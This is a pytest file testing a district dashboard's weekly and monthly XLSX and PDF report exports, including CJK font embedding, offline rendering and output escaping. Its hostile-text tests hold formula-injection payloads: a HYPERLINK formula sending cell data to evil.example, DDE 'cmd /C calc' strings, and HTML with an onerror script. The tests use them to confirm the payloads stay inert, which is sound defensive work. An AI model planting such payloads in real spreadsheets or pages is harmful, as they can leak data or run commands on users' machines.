"""The weekly report's spreadsheet and PDF: the report's numbers, CJK text embedded, no network, any week."""
from __future__ import annotations

import dataclasses
import html
import io
import re
import shutil
import socket
import subprocess
from datetime import date

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import select

from dashboard import weekly_charts, weekly_pdf, weekly_report, weekly_xlsx
from dashboard.formatting import PERCENT_KEYS, format_value
from dashboard.i18n import t
from data_feeds import schema
from data_feeds.reference import load_categories, load_departments, root_grid
from gridrules.access import EVERYTHING
from tests.support import ARTIFACTS, DEMO_NOW

WEEK = date(2026, 11, 23)  # DEMO_NOW's Monday
EMPTY_WEEK = date(2026, 1, 5)  # long before the demo's history
POPPLER = ("pdftoppm", "pdftotext", "pdffonts", "pdfinfo")
needs_poppler = pytest.mark.skipif(any(shutil.which(tool) is None for tool in POPPLER), reason="poppler-utils not installed")


def report_names(engine, lang: str) -> dict:
    """The code → name dicts of ``dashboard.cached_reads.names``, without an app context."""
    categories = load_categories(engine)
    departments = load_departments(engine).to_dict("records")
    with engine.connect() as connection:
        grids = dict(connection.execute(select(schema.grids.c.code, schema.grids.c.name)).all())
    pick = (lambda zh, en: en or zh) if lang == "en" else (lambda zh, en: zh)
    return {
        "departments": {d["code"]: pick(d["name"], d["name_en"]) for d in departments},
        "categories": {c.code: pick(c.name, c.name_en) for c in categories.values() if c.level == 1},
        "categories_all": {c.code: pick(c.name, c.name_en) for c in categories.values()},
        "category_parents": {c.code: c.parent for c in categories.values()},
        "grids": grids,
    }


def build(engine, config, monday: date, lang: str) -> weekly_report.WeeklyReport:
    return weekly_report.build(engine, config, root_grid(engine), "week", monday, EVERYTHING, DEMO_NOW, report_names(engine, lang))


def daily(engine, report: weekly_report.WeeklyReport) -> pd.DataFrame:
    return report.daily


def render_offline(report, lang, daily_counts, config) -> bytes:
    """The PDF, rendered with every network connection refused."""
    def refuse(*args, **kwargs):
        raise AssertionError(f"the PDF export reached for the network: {args!r}")

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(socket.socket, "connect", refuse)
        patch.setattr(socket, "create_connection", refuse)
        patch.setattr(socket, "getaddrinfo", refuse)
        return weekly_pdf.render(report, lang, daily_counts, generated_at=DEMO_NOW, min_due=config.min_due)


@pytest.fixture(scope="module")
def report_zh(demo_engine, domain_config):
    return build(demo_engine, domain_config, WEEK, "zh")


@pytest.fixture(scope="module")
def daily_zh(demo_engine, report_zh):
    return daily(demo_engine, report_zh)


@pytest.fixture(scope="module")
def pdf_zh(report_zh, daily_zh, domain_config):
    return render_offline(report_zh, "zh", daily_zh, domain_config)


def poppler(tool: str, *args) -> str:
    result = subprocess.run([tool, *args], check=False, capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, f"{tool} failed: {result.stderr}"
    return result.stdout


def pdf_text(path) -> str:
    return poppler("pdftotext", "-layout", str(path), "-")


def same(cell, expected) -> bool:
    """A cell holds the report's value: numbers as numbers (rates as fractions), missing as empty."""
    if expected is None or (not isinstance(expected, str) and pd.isna(expected)):
        return cell is None
    if isinstance(expected, str):
        return cell == expected
    return isinstance(cell, (int, float)) and not isinstance(cell, bool) and cell == pytest.approx(float(expected), rel=1e-12, abs=1e-12)


def header_columns(sheet) -> tuple[dict[str, int], int]:
    """(header label → column number, header row): the header is the row above the frozen pane."""
    header_row = sheet[sheet.freeze_panes].row - 1
    return {cell.value: cell.column for cell in sheet[header_row] if cell.value}, header_row


# ---------------------------------------------------------------- spreadsheet


def test_spreadsheet_holds_the_reports_numbers(report_zh):
    book = openpyxl.load_workbook(io.BytesIO(weekly_xlsx.render(report_zh, "zh")))
    assert book.sheetnames == ["概要", "部门排名", "类别", "热点网格", "超期案件", "返工案件", "网格员排名", "趋势"]

    summary = book["概要"]
    assert "吴中区" in summary["A1"].value and "2026-11-23 – 2026-11-29" in summary["A2"].value
    columns, header = header_columns(summary)
    assert list(columns) == ["指标", "本周", "上周", "较上周"]
    assert all(cell.font.bold for cell in summary[header] if cell.value)
    for offset, key in enumerate(weekly_report.SUMMARY_KEYS, start=1):
        label, this_week, last_week, delta = (cell for cell in summary[header + offset][:4])
        current, previous = report_zh.totals[key], report_zh.previous_totals[key]
        assert label.value == t(key, "zh")
        assert same(this_week.value, current), key
        assert same(last_week.value, previous), key
        assert same(delta.value, weekly_report.change(current, previous)), key
        if key in PERCENT_KEYS and current is not None:
            assert "%" in this_week.number_format and 0 <= this_week.value <= 1, key
    assert summary.column_dimensions["A"].width > 10

    departments = book["部门排名"]
    columns, header = header_columns(departments)
    fields = {"排名": "rank", "部门": "name", "部门编码": "dept", "应结案数": "due_to_close", "结案率": "closure_rate",
              "按期结案率": "on_time_closure_rate", "返工率": "rework_rate", "满意率": "satisfaction_rate",
              "超期数": "overdue", "综合得分": "score", "等级": "grade"}
    assert set(fields) <= set(columns) and "红黑榜" in columns
    rows = report_zh.departments.to_dict("records")
    assert len(rows) > 5 and departments.max_row == header + len(rows)
    red, black = set(report_zh.red["dept"]), set(report_zh.black["dept"])
    assert red and black
    for offset, expected in enumerate(rows, start=1):
        for label, field in fields.items():
            cell = departments.cell(row=header + offset, column=columns[label])
            assert same(cell.value, expected[field]), (expected["dept"], field)
            if field.endswith("_rate") and cell.value is not None:
                assert "%" in cell.number_format
        mark = departments.cell(row=header + offset, column=columns["红黑榜"]).value
        assert mark == ("红榜" if expected["dept"] in red else "黑榜" if expected["dept"] in black else None)

    for sheet, frame in (("类别", report_zh.categories), ("热点网格", report_zh.hot_grids), ("超期案件", report_zh.overdue_cases),
                         ("返工案件", report_zh.reworked_cases), ("网格员排名", report_zh.workers)):
        _, header = header_columns(book[sheet])
        assert book[sheet].max_row == header + len(frame), sheet
    categories = book["类别"]
    columns, header = header_columns(categories)
    first = report_zh.categories.iloc[0]
    assert categories.cell(row=header + 1, column=columns["本周上报数"]).value == first["reported"]
    assert categories.cell(row=header + 1, column=columns["较上周"]).value == first["change"]


def test_daily_counts_add_up_to_the_weeks_totals(report_zh, daily_zh):
    assert list(daily_zh["date"]) == [date(2026, 11, 23 + offset) for offset in range(7)]
    assert daily_zh["reported"].sum() == report_zh.totals["reported"]
    assert daily_zh["closed"].sum() == report_zh.totals["closed"]
    assert daily_zh["previous_reported"].sum() == report_zh.previous_totals["reported"]
    assert daily_zh["previous_closed"].sum() == report_zh.previous_totals["closed"]
    # DEMO_NOW is a Wednesday afternoon: Thursday to Sunday have not begun.
    assert daily_zh["reported"].isna().tolist() == [False] * 3 + [True] * 4


# ---------------------------------------------------------------- PDF


@needs_poppler
def test_pdf_renders_with_the_cjk_font_embedded(report_zh, pdf_zh, tmp_path):
    assert pdf_zh.startswith(b"%PDF-")
    path = tmp_path / "weekly_report.pdf"
    path.write_bytes(pdf_zh)

    info = poppler("pdfinfo", str(path))
    width, height = map(float, re.search(r"Page size:\s+([\d.]+) x ([\d.]+)", info).groups())
    assert width > height and abs(width - 841.9) < 2  # A4 landscape
    pages = int(re.search(r"Pages:\s+(\d+)", info).group(1))

    ARTIFACTS.mkdir(exist_ok=True)
    poppler("pdftoppm", "-png", "-r", "60", "-f", "1", "-l", "1", "-singlefile", str(path), str(ARTIFACTS / "weekly-page1"))
    assert (ARTIFACTS / "weekly-page1.png").stat().st_size > 10_000

    text = pdf_text(path)
    for heading in ("吴中区", "周例会报告", t("section_totals", "zh"), t("section_daily", "zh"), t("section_red_black", "zh"),
                    t("section_departments", "zh"), t("section_overdue", "zh"), t("section_workers", "zh"), "红榜", "黑榜"):
        assert heading in text, heading
    for key in ("reported", "closed", "due_to_close", "closure_rate", "on_time_closure_rate"):
        assert format_value(key, report_zh.totals[key]) in text, key
    assert re.search(rf"第\s*1\s*页\s*/\s*共\s*{pages}\s*页", text) and "生成时间 2026-11-25 15:10" in text  # pdftotext drops spaces between CJK
    assert report_zh.red["name"].iloc[0] in text and report_zh.black["name"].iloc[0] in text

    fonts = [line.split() for line in poppler("pdffonts", str(path)).splitlines()[2:]]
    cjk = [fields for fields in fonts if re.search(r"Noto-?Sans-?CJK", fields[0])]
    assert cjk, fonts
    assert all(fields[-5] == "yes" for fields in cjk)  # the "emb" column: embedded (a subset)


def test_pdf_html_refers_to_nothing_outside_itself(report_zh, daily_zh):
    page = weekly_pdf.html_source(report_zh, "zh", daily_zh)
    assert not re.search(r"""(?:src|href)\s*=\s*["'](?!data:)""", page)
    assert "@import" not in page and not re.search(r"url\((?!\s*['\"]?data:)", page)


def test_pdf_text_is_escaped(report_zh):
    hostile = dataclasses.replace(report_zh, area=dataclasses.replace(report_zh.area, name='<img src="http://x/y.png">"区'))
    page = weekly_pdf.html_source(hostile, "zh")
    assert "<img src=\"http://x" not in page and "&lt;img src=&quot;http://x/y.png&quot;&gt;" in page
    assert 'content: "&lt;' not in page  # the page footer is a CSS string, escaped as CSS


# ---------------------------------------------------------------- English, empty week


@needs_poppler
def test_english_variant(demo_engine, domain_config, tmp_path):
    report = build(demo_engine, domain_config, WEEK, "en")
    book = openpyxl.load_workbook(io.BytesIO(weekly_xlsx.render(report, "en")))
    assert book.sheetnames == ["Summary", "Departments", "Categories", "Hot grids", "Overdue", "Reworked", "Workers", "Trend"]
    columns, _ = header_columns(book["Departments"])
    assert {"Rank", "Department", "Closure rate", "Score", "Grade", "Red/black list"} <= set(columns)

    path = tmp_path / "weekly-en.pdf"
    path.write_bytes(render_offline(report, "en", daily(demo_engine, report), domain_config))
    text = pdf_text(path)
    for heading in ("Weekly meeting report", "This week against last week", "Department ranking", "Red list", "Black list",
                    "Grid worker ranking", "Page 1 of"):
        assert heading in text, heading
    assert "部门排名" not in text


@needs_poppler
def test_an_empty_week_still_exports(demo_engine, domain_config, tmp_path):
    report = build(demo_engine, domain_config, EMPTY_WEEK, "zh")
    assert report.totals["reported"] == 0 and report.departments.empty
    book = openpyxl.load_workbook(io.BytesIO(weekly_xlsx.render(report, "zh")))
    summary = book["概要"]
    _, header = header_columns(summary)
    assert summary.cell(row=header + 1, column=2).value == 0
    assert book["部门排名"].cell(row=header + 1, column=1).value == t("no_data", "zh")

    counts = daily(demo_engine, report)
    assert counts["reported"].sum() == 0
    path = tmp_path / "empty.pdf"
    path.write_bytes(render_offline(report, "zh", counts, domain_config))
    text = pdf_text(path)
    assert "2026-01-05 – 2026-01-11" in text and t("no_data", "zh") in text


# ---------------------------------------------------------------- hostile text (formulas, markup)

FORMULAS = (
    '=HYPERLINK("http://evil.example/?q="&A1,"详情")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", " =1+1", "＝1+1",
)
MARKUP = '<b>粗体</b><img src="http://evil.example/x.png" onerror="alert(1)">'
CONTROL = "名称\x07"  # not allowed in XML: replaced, never a crash


def hostile_report(report: weekly_report.WeeklyReport, texts: tuple[str, ...]) -> weekly_report.WeeklyReport:
    """The report with every text of every table (and the area's name) replaced by ``texts``, in turn."""
    def poison(frame):
        if frame is None or frame.empty:
            return frame
        frame = frame.copy()
        for column in frame.columns:
            if frame[column].map(lambda value: isinstance(value, str)).any():
                frame[column] = [texts[(row + len(column)) % len(texts)] if isinstance(value, str) else value
                                 for row, value in enumerate(frame[column])]
        return frame

    tables = ("departments", "red", "black", "categories", "hot_grids", "overdue_cases", "reworked_cases", "workers")
    area = dataclasses.replace(report.area, name=texts[0])
    return dataclasses.replace(report, area=area, **{name: poison(getattr(report, name)) for name in tables})


def test_spreadsheet_writes_hostile_text_as_text_never_as_a_formula(report_zh):
    hostile = hostile_report(report_zh, FORMULAS + (MARKUP,))
    book = openpyxl.load_workbook(io.BytesIO(weekly_xlsx.render(hostile, "zh")))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [f"{cell.parent.title}!{cell.coordinate}" for cell in cells if cell.data_type == "f"] == []
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    for text in FORMULAS + (MARKUP,):
        assert text.replace("\r", "\n") in texts, text  # kept as it was (XML reads a carriage return as a line feed)
    # Excel's quote prefix: editing such a cell keeps it text
    assert all(cell.quotePrefix for cell in cells if cell.value in {text.replace("\r", "\n") for text in FORMULAS})
    assert book["概要"]["A1"].value.startswith(FORMULAS[0]) and book["概要"]["A1"].data_type == "s"
    # numbers are still numbers, negative ones too
    categories = book["类别"]
    columns, header = header_columns(categories)
    changes = [categories.cell(row=header + offset, column=columns["较上周"]).value for offset in range(1, len(report_zh.categories) + 1)]
    assert changes == list(report_zh.categories["change"]) and all(isinstance(value, (int, float)) for value in changes)


def test_spreadsheet_survives_control_characters(report_zh):
    book = openpyxl.load_workbook(io.BytesIO(weekly_xlsx.render(hostile_report(report_zh, (CONTROL,)), "zh")))
    texts = {cell.value for sheet in book for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
    assert "名称\ufffd" in texts


def test_pdf_escapes_markup_in_every_table(report_zh, daily_zh):
    hostile = hostile_report(report_zh, (MARKUP, "普通网格"))
    page = weekly_pdf.html_source(hostile, "zh", daily_zh)
    assert "<b>" not in page and 'src="http://evil.example' not in page
    assert page.count(html.escape(MARKUP)) > 10  # the title, and names in every table


def test_pdf_charts_draw_names_as_plain_text(report_zh):
    """Matplotlib reads ``$…$`` as TeX (a broken one fails the export); names are drawn as written."""
    hostile = hostile_report(report_zh, (r"$\frac{1}{$", "部门$x$"))
    svg = weekly_charts.scores_chart_svg(hostile, "zh")
    assert r"$\frac{1}{$" in html.unescape(svg) and "部门$x$" in html.unescape(svg)


def test_a_running_weeks_comparison_is_labelled_up_to_its_hour():
    """Data through Wednesday 21:00 is compared with last week through Wednesday 21:00."""
    from dashboard.weekly_columns import week_label
    from gridrules.indicators import Window
    from gridrules.timewindows import previous_period
    from tests.support import local

    week = Window.until_now(local(2026, 11, 23), local(2026, 11, 30), local(2026, 11, 25, 21, 0))
    assert week_label(week) == "2026-11-23 – 2026-11-29"
    assert week_label(previous_period(week, local(2026, 11, 25, 21, 0))) == "2026-11-16 – 2026-11-18 21:00"


def test_the_worker_ranking_separates_people(report_zh, domain_config):
    """The demo's closed week: ranked workers all patrolled enough, their scores spread (the top
    twenty are not all 100 / A), and they stand in the stated order."""
    workers = report_zh.workers
    ranked = workers[workers["rank"].notna()]
    assert len(ranked) >= 10 and list(ranked["rank"]) == list(range(1, len(ranked) + 1))
    assert (ranked["patrol_hours"] >= domain_config.min_ranked_patrol_hours).all()
    scores = ranked["score"].astype(float)
    assert scores.nunique() >= 0.9 * len(ranked) and scores.max() - scores.min() >= 5, list(scores)
    assert ranked["grade"].nunique() >= 2
    keys = list(zip(-scores, -ranked["valid_reported"], -ranked["patrol_hours"], ranked["worker"]))
    assert keys == sorted(keys)
    assert (workers[workers["rank"].isna()]["patrol_hours"] < domain_config.min_ranked_patrol_hours).all()


# ---------------------------------------------------------------- a month and a quarter


@needs_poppler
def test_a_month_exports_as_a_month_with_its_trend(demo_engine, domain_config, tmp_path):
    """November 2026, running at DEMO_NOW: the PDF and the workbook name the month, say how far it
    has run (截至), compare with the same part of October and carry the twelve months' trend, the
    last of them the month's own numbers."""
    report = weekly_report.build(demo_engine, domain_config, root_grid(demo_engine), "month", date(2026, 11, 1), EVERYTHING, DEMO_NOW,
                                 report_names(demo_engine, "zh"))
    assert len(report.daily) == 31  # October's 31 days against November's 30: the 31st has no November day
    assert report.daily["date"].iloc[-1] is None and report.daily["reported"].sum() == report.totals["reported"]
    book = openpyxl.load_workbook(io.BytesIO(weekly_xlsx.render(report, "zh")))
    summary = book["概要"]
    columns, header = header_columns(summary)
    assert list(columns)[:4] == ["指标", "本月", "上月", "较上月"]
    assert summary.cell(row=2, column=1).value == ("统计周期 2026年11月 2026-11-01 – 2026-11-30 (截至 2026-11-25 15:10, 工作日 18 天)"
                                                   " · 对比上月 2026-10-01 – 2026-10-25 15:10")
    trend_columns, trend_header = header_columns(book["趋势"])
    periods = [row[0] for row in book["趋势"].iter_rows(min_row=trend_header + 1, values_only=True)]
    assert periods == [f"{year}年{month}月" for year, month in [(2025, 12)] + [(2026, m) for m in range(1, 11)]] + ["2026年11月 (进行中)"]
    assert book["趋势"].cell(row=trend_header + 12, column=trend_columns[t("reported", "zh")]).value == report.totals["reported"]

    path = tmp_path / "month.pdf"
    path.write_bytes(render_offline(report, "zh", report.daily, domain_config))
    text = pdf_text(path)
    for heading in ("月度考核报告", "截至 2026-11-25 15:10", "本月指标（较上月）", "每日上报与结案（本月与上月）", "近12期主要指标趋势", "2025年12月"):
        assert heading in text, heading
    assert "本周" not in text and "上周" not in text
